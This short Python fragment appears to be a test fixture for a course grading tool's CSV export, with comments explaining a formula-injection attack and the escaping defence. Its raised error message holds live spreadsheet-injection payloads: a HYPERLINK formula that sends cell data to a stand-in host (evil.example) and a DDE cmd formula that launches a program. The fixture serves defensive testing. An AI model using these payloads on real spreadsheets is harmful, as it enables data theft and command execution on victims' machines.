# attack: an error message full of spreadsheet formulas after `;`, `,`, tabs and line breaks, so that grades.csv's reason column (and misconceptions.csv) runs them where a spreadsheet splits at `;` or a tab (it costs the attacker the points)
# defence: `for_csv` writes tabs and line breaks as \t and \n, and puts an apostrophe before every segment of a cell that could start a formula: no cell of any CSV the course writes starts one, with `,`, `;` or a tab as the separator
raise ValueError('oops;=HYPERLINK("http://evil.example/?"&A1,"click");\t=cmd|\' /C calc\'!A0,'
                 ' @SUM(1+1)\n-2+3;\uff1d1+1')
